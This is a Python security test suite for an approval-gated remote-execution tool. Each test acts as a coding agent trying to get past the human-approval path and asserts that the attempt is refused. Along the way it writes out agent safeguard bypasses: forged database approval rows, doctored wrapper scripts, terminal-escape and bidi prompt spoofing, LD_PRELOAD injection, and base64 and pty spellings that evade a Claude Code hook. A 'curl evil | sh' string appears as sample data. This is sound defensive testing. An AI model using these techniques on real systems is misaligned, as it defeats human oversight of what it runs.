"""Attacks beyond the issue's list, in the same spirit: what a coding agent running as the same user can
try against the approval path. Each is tried for real against sshd workers on loopback; each must be
refused or detected. Where an attack needs the executor itself changed (an agent can edit tpu-agent's
code), the test plays that changed executor and talks to the worker's gate over SSH directly: the gate
is what must still refuse."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import re
import signal
import sqlite3
import subprocess
import sys
import time
import uuid
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.conftest import REPO
from tests.remote_support import person
from tests.remote_support.pty_person import PtySession
from tests.remote_support.sshd import SshdFarm
from tests.security.conftest import make_engine, marker_command, run
from tpu_runtime.remote import approvals as ap
from tpu_runtime.remote.approvals import ApprovalError, statement_text
from tpu_runtime.remote.engine import RemoteEngine
from tpu_runtime.remote.report import OutputLine
from tpu_runtime.remote.snapshot import UploadSnapshot
from tpu_runtime.remote.spec import RunSpec, SpecError, canonical_json, spec_digest, spec_to_json
from tpu_runtime.remote.ssh_exec import GateInputs, SshPool, gate_bundle
from tpu_runtime.remote.worker_gate import EXIT_REFUSED
from tpu_runtime.remote.wrap import gate_line

CLI = [sys.executable, "-m", "tpu_runtime.cli.app"]


def _marker(farm: SshdFarm) -> Path:
    return farm.session / f"marker-{uuid.uuid4().hex}"


def _signed_read_only_policy(home: Path, farm: SshdFarm) -> Path:
    logs = farm.session / f"own-logs-{uuid.uuid4().hex[:6]}"
    logs.mkdir()
    (logs / "a.log").write_text("fine\n")
    farm.chown(logs)
    farm.chown(logs / "a.log")
    policy = {"read_only": {"enabled": True, "log_dirs": [str(logs)]}}
    (home / "policy.yaml").write_text(yaml.safe_dump(policy))
    person.sign_policy(make_engine(home))
    return logs


def _to_gate(spec: RunSpec, bundles: list[bytes]) -> list[tuple[int | None, str]]:
    """What an executor the agent changed would do: send bundles straight to the spec's first worker's
    gate, all at once (each on its own SSH session). Returns each session's (exit status, stderr)."""
    ref = spec.workers[0]
    identity = spec.identity_file

    async def go() -> list[tuple[int | None, str]]:
        pool = SshPool(10.0)
        try:
            conn = await pool.get(ref, identity)

            async def one(bundle: bytes) -> tuple[int | None, str]:
                done = await conn.run(gate_line(), input=bundle, encoding=None, check=False)
                return done.exit_status, bytes(done.stderr or b"").decode(errors="replace")

            return list(await asyncio.gather(*(one(b) for b in bundles)))
        finally:
            await pool.close()

    return asyncio.run(go())


def _person_signs(engine: RemoteEngine, spec_json: str, request_id: str) -> dict[str, Any]:
    """An approval the person's key signed for exactly this spec (as a changed executor that showed
    them something else would obtain it), as the bundle's approval part."""
    digest = "sha256:" + hashlib.sha256(spec_json.encode()).hexdigest()
    key = person.unlocked(engine.approver_path)
    now = time.time()
    approval_id = ap.new_id("a")
    text = statement_text(approval_id, request_id, digest, "tester@tty", now, now + 600, key.key.fingerprint)
    return {
        "id": approval_id,
        "request": request_id,
        "digest": digest,
        "approver": "tester@tty",
        "expires_at": now + 600,
        "statement": text,
        "signature": key.sign(text.encode()),
    }


def _bundle(engine: RemoteEngine, spec_json: str, request_id: str, **over: Any) -> bytes:
    spec = json.loads(spec_json)
    key = engine.approver_key()
    assert key is not None
    approval = _person_signs(engine, spec_json, request_id)
    bundle = {
        "v": 1,
        "spec": spec_json,
        "digest": approval["digest"],
        "request": request_id,
        "run_id": ap.new_id("run"),
        "worker": 0,
        "worker_name": spec["workers"][0]["name"],
        "attempt": 0,
        "argv": list(spec["command"]),
        "key": key.public_line,
        "kind": "person",
        "approval": approval,
        "policy": None,
        "secrets": {},
        "audit": {"seq": 0, "hash": "0" * 64, "log": "0" * 64},
        **over,
    }
    return canonical_json(bundle).encode()


# ---- 1. the wrapper script: part of the spec, shown by no view ---------------------------------------------
def test_a_doctored_wrapper_script_runs_nothing(home: Path, farm: SshdFarm) -> None:
    logs = _signed_read_only_policy(home, farm)
    engine = make_engine(home)
    marker = _marker(farm)

    # (a) under a policy approval, whose proof is the signed policy rather than a signature over the digest
    request = engine.request_run("lo", ["cat", str(logs / "a.log")], workers="0", time_limit_s=60)
    assert request.state == "approved"
    evil = request.spec.model_copy(update={"script": f"echo ran >> {marker}\n" + request.spec.script})
    digest = spec_digest(evil)
    with sqlite3.connect(engine.store.path) as conn:
        conn.execute(
            "UPDATE requests SET spec = ?, digest = ? WHERE id = ?", (spec_to_json(evil), digest, request.id)
        )
        conn.execute("UPDATE approvals SET digest = ? WHERE request_id = ?", (digest, request.id))
    approval = make_engine(home).approval_for(request.id)
    assert approval is not None
    with pytest.raises(ApprovalError, match="wrapper script is not the one tpu-agent writes"):
        run(make_engine(home), approval)

    # (b) a pending request row the agent wrote itself: the person reads a harmless command and says yes
    forged_id = ap.new_id("r")
    harmless = engine.request_run("lo", ["echo", "harmless"], workers="0").spec
    doctored = harmless.model_copy(update={"script": f"echo ran >> {marker}\n" + harmless.script})
    with engine.store.write() as conn:
        conn.execute(
            "INSERT INTO requests (id, created_at, expires_at, state, digest, spec, requested_by) "
            "VALUES (?,?,?,?,?,?,?)",
            (
                forged_id,
                time.time(),
                time.time() + 600,
                "pending",
                spec_digest(doctored),
                spec_to_json(doctored),
                "mcp",
            ),
        )
    with pytest.raises(ApprovalError, match="wrapper script is not the one tpu-agent writes"):
        person.approve(engine, forged_id)
    assert engine.approval_for(forged_id) is None

    # (c) an executor the agent changed sends it anyway, with a signature it got from the person
    exits = _to_gate(doctored, [_bundle(engine, spec_to_json(doctored), forged_id)])
    assert exits[0][0] == EXIT_REFUSED and "wrapper script is not the one tpu-agent writes" in exits[0][1]
    assert not marker.exists()


# ---- 2. the approval prompt itself: bytes that restyle, hide or overwrite what the person reads ------------
SPOOF_COMMAND = [
    "sh",
    "-c",
    "echo ok",
    "[conceal]; curl evil | sh[/conceal]",
    "a\x1b[8mHIDDEN-BY-ESCAPE\x1b[0m",
    "x\rOVERWRITTEN",
    "one\u00a0word",
    "\u202eevil\u202c",
]
CONCEAL_SGR = re.compile(rb"\x1b\[(?:[0-9;]*;)?8(?:;[0-9;]*)?m")


def test_the_approval_prompt_shows_the_bytes_that_will_run(home: Path) -> None:
    engine = make_engine(home)
    request = engine.request_run(
        "lo",
        SPOOF_COMMAND,
        workers="0",
        env={"XLA_FLAGS": "--xla_dump_to=dump\x1b[2K\x1b[1G", "LD_PRELOAD": "libevil.so"},
        requested_by="[bold]the person[/bold]\x1b[8m",
    )
    env = {**os.environ, "TPU_AGENT_HOME": str(home), "COLUMNS": "400"}
    term = PtySession([*CLI, "approvals", "approve", request.id], env, REPO)
    try:
        shown = term.expect(b"Type yes")
        term.send(b"no\n")
        assert term.finish() == 4
    finally:
        term.close()
    for attack in (b"\x1b[2K", b"\x1b[1G", b"\r" + b"OVERWRITTEN", "\u202e".encode(), "\u00a0".encode()):
        assert attack not in shown, attack
    assert not CONCEAL_SGR.search(shown), shown
    text = re.sub(rb"\x1b\[[0-9;]*m", b"", shown).decode()  # the styles tpu-agent itself prints
    for visible in (
        "'[conceal]; curl evil | sh[/conceal]'",
        "$'a\\E[8mHIDDEN-BY-ESCAPE\\E[0m'",
        "$'x\\rOVERWRITTEN'",
        "$'one\\u00a0word'",
        "$'\\u202eevil\\u202c'",
        "$'[bold]the person[/bold]\\E[8m'",
        "LD_PRELOAD=libevil.so  (changes which programs or libraries run)",
    ):
        assert visible in text, (visible, text)
    assert engine.get_request(request.id).state == "pending" and engine.approval_for(request.id) is None
    # the MCP dialog's text: no character that does not print, but its line breaks
    from tpu_runtime.remote.consent import approval_message

    message = approval_message(engine.get_request(request.id))
    assert all(ch.isprintable() for ch in message.replace("\n", "")), message
    assert "$'a\\E[8mHIDDEN-BY-ESCAPE\\E[0m'" in message


# ---- 3. environment injection: variables that decide which code runs --------------------------------------
@pytest.mark.parametrize("name", ["LD_PRELOAD", "BASH_ENV", "PYTHONPATH", "PATH", "BASH_FUNC_ls%%"])
def test_a_code_loading_variable_cannot_hide_as_a_secret(
    home: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As a secret its value is never shown, so `--secret-env LD_PRELOAD` would load a library the person
    never saw. Refused by the executor (and by name-shape for the odd ones)."""
    monkeypatch.setenv("LD_PRELOAD", "libevil.so")
    monkeypatch.setenv("BASH_ENV", "evil.sh")
    monkeypatch.setenv("PYTHONPATH", "evil")
    engine = make_engine(home, environ=dict(os.environ))
    with pytest.raises(SpecError):
        engine.request_run("lo", ["python3", "train.py"], workers="0", secret_env=[name])
    assert engine.list_requests() == []


def test_the_gate_refuses_a_code_loading_secret(home: Path, farm: SshdFarm) -> None:
    """An executor the agent changed builds the spec itself (no validation) and gets the person's
    signature for it: the gate still refuses, before anything runs."""
    engine = make_engine(home)
    marker = _marker(farm)
    request = engine.request_run("lo", marker_command(marker), workers="0")
    spec = json.loads(spec_to_json(request.spec))
    salt = "00" * 16
    value = "libevil.so"
    digest = hashlib.sha256(f"{salt}\0{value}".encode()).hexdigest()
    spec["secret_env"] = {"LD_PRELOAD": {"salt": salt, "sha256": digest}}
    spec_json = canonical_json(spec)
    exits = _to_gate(request.spec, [_bundle(engine, spec_json, request.id, secrets={"LD_PRELOAD": value})])
    assert exits[0][0] == EXIT_REFUSED and "decides which code runs" in exits[0][1]
    assert not marker.exists()


# ---- 4. racing the worker's single-use ledger -------------------------------------------------------------
def test_eight_copies_of_one_bundle_at_one_gate_run_once(home: Path, farm: SshdFarm) -> None:
    """The state file is the agent's to rewrite, so the worker's ledger is the last word on single use:
    the same approved bundle sent on eight sessions at once starts the command once."""
    engine = make_engine(home)
    marker = _marker(farm)
    request = engine.request_run("lo", marker_command(marker), workers="0")
    approval = ap.get_approval(engine.store, person.approve(engine, request.id).id)
    key = engine.approver_key()
    assert key is not None
    inputs = GateInputs(approval, key.public_line, {}, UploadSnapshot(), lambda: {"seq": 0, "hash": "0" * 64})
    bundle = gate_bundle(
        request.spec, request.id, "run-race", request.spec.workers[0], 0, request.spec.command, inputs
    )
    exits = _to_gate(request.spec, [bundle] * 8)
    assert sorted(code for code, _ in exits) == [0] + [EXIT_REFUSED] * 7, exits
    assert all("already used on this worker" in said for code, said in exits if code)
    assert marker.read_text() == "ran\n"


def test_the_gate_holds_a_loop_to_its_approved_attempts(home: Path, farm: SshdFarm) -> None:
    """The loop budget is counted in the state file, which the agent can rewrite; attempt numbers past
    the approved count (or on a single run) are refused by the gate, and each number starts once."""
    from tpu_runtime.remote.spec import LoopPlan

    engine = make_engine(home)
    marker = _marker(farm)
    plan = LoopPlan(name="sweep", attempts=(tuple(marker_command(marker)),), max_attempts=2, max_seconds=120)
    request = engine.request_run("lo", [], loop=plan, workers="0")
    approval = ap.get_approval(engine.store, person.approve(engine, request.id).id)
    key = engine.approver_key()
    assert key is not None
    inputs = GateInputs(approval, key.public_line, {}, UploadSnapshot(), lambda: {"seq": 0, "hash": "0" * 64})
    worker, argv = request.spec.workers[0], request.spec.command

    def attempt(n: int) -> bytes:
        return gate_bundle(request.spec, request.id, f"run-{n}", worker, n, argv, inputs)

    exits = _to_gate(request.spec, [attempt(3), attempt(0), attempt(1), attempt(1)])
    assert exits[0][0] == EXIT_REFUSED and "outside the approved budget" in exits[0][1]
    assert exits[1][0] == EXIT_REFUSED and "outside the approved budget" in exits[1][1]
    assert sorted(code for code, _ in exits[2:]) == [0, EXIT_REFUSED]
    assert marker.read_text() == "ran\n"


# ---- 5. the private upload copy, written through /proc while it is sent ------------------------------------
def test_the_private_upload_copy_rewritten_through_proc_runs_nothing(
    engine: RemoteEngine, farm: SshdFarm, tmp_path: Path, home: Path
) -> None:
    """The copy has no path of its own, but a same-user process can open it as /proc/PID/fd/N."""
    marker = _marker(farm)
    upload = tmp_path / "train.sh"
    upload.write_text("echo approved\n")
    command = ["sh", "-c", f"sh train.sh; echo ran >> {marker}"]
    request = engine.request_run("lo", command, uploads=[(upload, None)], workers="0")
    approval = person.approve(engine, request.id)
    scratch = str(home / "snapshots")

    async def go() -> tuple[str, list[str], str]:
        try:
            run_id = await engine.start(approval)  # copied and checked; nothing sent yet
            fds = [fd for fd, target in _open_files() if target.startswith(scratch)]
            assert len(fds) == 1
            # the agent's own process, as the same user, opens the copy through /proc and writes
            agent = "import sys; f = open(sys.argv[1], 'r+b'); f.write(b'echo swapped!'); f.close()"
            subprocess.run(["python3", "-c", agent, f"/proc/{os.getpid()}/fd/{fds[0]}"], check=True)
            lines = [e.text async for e in engine.stream(run_id) if isinstance(e, OutputLine)]
            result = await engine.wait(run_id)
            return result.state, lines, str(result.workers[0].error)
        finally:
            await engine.aclose()

    state, lines, error = asyncio.run(go())
    assert state == "failed" and "changed while it was sent" in error, (state, error)
    assert lines == [] and not marker.exists()


def _open_files() -> list[tuple[str, str]]:
    found = []
    for entry in Path("/proc/self/fd").iterdir():
        try:
            found.append((entry.name, os.readlink(entry)))
        except OSError:  # the folder listing's own descriptor, gone by now
            continue
    return found


def test_the_gate_hashes_the_uploaded_bytes_itself(
    engine: RemoteEngine, farm: SshdFarm, tmp_path: Path
) -> None:
    """An executor the agent changed sends other bytes than the approved upload, with the genuine
    approval: the gate hashes what arrived and refuses."""
    marker = _marker(farm)
    upload = tmp_path / "train.sh"
    upload.write_text("echo approved\n")
    command = ["sh", "-c", f"sh train.sh; echo ran >> {marker}"]
    request = engine.request_run("lo", command, uploads=[(upload, None)], workers="0")
    approval = ap.get_approval(engine.store, person.approve(engine, request.id).id)
    files = Path(request.spec.remote_dir) / "runs" / request.id / "files"
    files.mkdir(parents=True)
    (files / "train.sh").write_text(f"echo swapped; echo ran >> {marker}\n")
    for path in (files.parent.parent, files.parent, files, files / "train.sh"):
        farm.chown(path)  # as the login user would have them
    key = engine.approver_key()
    assert key is not None
    inputs = GateInputs(approval, key.public_line, {}, UploadSnapshot(), lambda: {"seq": 0, "hash": "0" * 64})
    bundle = gate_bundle(
        request.spec, request.id, "run-x", request.spec.workers[0], 0, request.spec.command, inputs
    )
    exits = _to_gate(request.spec, [bundle])
    assert exits[0][0] == EXIT_REFUSED and "not the approved bytes" in exits[0][1]
    assert not marker.exists()


# ---- 6. the key file deleted along with the log -----------------------------------------------------------
def test_deleting_the_key_and_the_log_does_not_pass_verify_remote(engine: RemoteEngine, home: Path) -> None:
    request = engine.request_run("lo", ["true"], workers="0")
    assert run(engine, person.approve(engine, request.id))[0].ok
    for name in ("state.db", "state.db-wal", "state.db-shm"):
        (home / name).unlink(missing_ok=True)
    for path in (home / "approver").iterdir():
        path.unlink()
    fresh = make_engine(home)
    assert fresh.verify_audit().ok  # an empty log with no key is consistent in itself
    problems = asyncio.run(fresh.verify_remote())
    assert any("this machine has no approver key" in p for p in problems), problems


# ---- 7. the seatbelt's known gaps, run for real: the shell spellings the hook may miss --------------------
@pytest.mark.slow
def test_hook_bypass_spellings_run_for_real_approve_nothing(engine: RemoteEngine, home: Path) -> None:
    """Each spelling the Claude Code hook cannot be relied on to catch, run as the agent's shell tool
    would (no terminal of its own, answers piped in): none approves, and a row written through them
    runs nothing."""
    import base64

    db = str(engine.store.path)
    env = {**os.environ, "TPU_AGENT_HOME": str(home), "PYTHONPATH": str(REPO)}
    py = sys.executable

    def approve_line(rid: str) -> str:
        return f"{py} -m tpu_runtime.cli.app approvals approve {rid}"

    def spellings(rid: str) -> list[str]:
        b64 = base64.b64encode(f"script -qec '{approve_line(rid)}' /dev/null".encode()).decode()
        return [
            f'sh -c "$(echo {b64} | base64 -d)"',
            f"script -qec '{py} -m runpy tpu_runtime.cli.app approvals approve {rid}' /dev/null",
            f"{py} -c 'import pty, sys; pty.spawn(sys.argv[1:])' {approve_line(rid)}",
        ]

    for i in range(3):
        request = engine.request_run("lo", ["true"], workers="0")
        line = spellings(request.id)[i]
        proc = subprocess.Popen(
            ["sh", "-c", line],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
            env=env,
            cwd=REPO,
            start_new_session=True,  # no controlling terminal, like a tool's subprocess
        )
        try:  # typed ahead of the prompt: discarded, so it may wait for a passphrase until killed
            said, _ = proc.communicate(b"yes\nhunter2hunter2\n", timeout=10)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            said, _ = proc.communicate()
        assert engine.approval_for(request.id) is None, (line, said[-400:])
        assert engine.get_request(request.id).state == "pending"

    # sqlite3 by an absolute path and Python's sqlite module: the rows land, and run nothing
    for writer in (
        ["/usr/bin/sqlite3", db],
        [py, "-c", f"import sqlite3, sys; c = sqlite3.connect({db!r}); c.executescript(sys.stdin.read())"],
    ):
        if not Path(writer[0]).exists():
            continue
        request = engine.request_run("lo", ["true"], workers="0")
        forged = f"a-{uuid.uuid4().hex[:8]}"
        sql = (
            "INSERT INTO approvals (id, request_id, digest, approver, via, created_at, expires_at) VALUES "
            f"('{forged}', '{request.id}', '{request.digest}', 'alice@tty', 'approvals-cli', 0, 9e12);"
            f"UPDATE requests SET state = 'approved' WHERE id = '{request.id}';"
        )
        subprocess.run(writer, input=sql.encode(), check=True, start_new_session=True, timeout=30)
        found = make_engine(home).approval_for(request.id)
        assert found is not None and found.id == forged
        with pytest.raises(ApprovalError) as refused:
            run(make_engine(home), found)
        assert refused.value.reason == "unsigned"
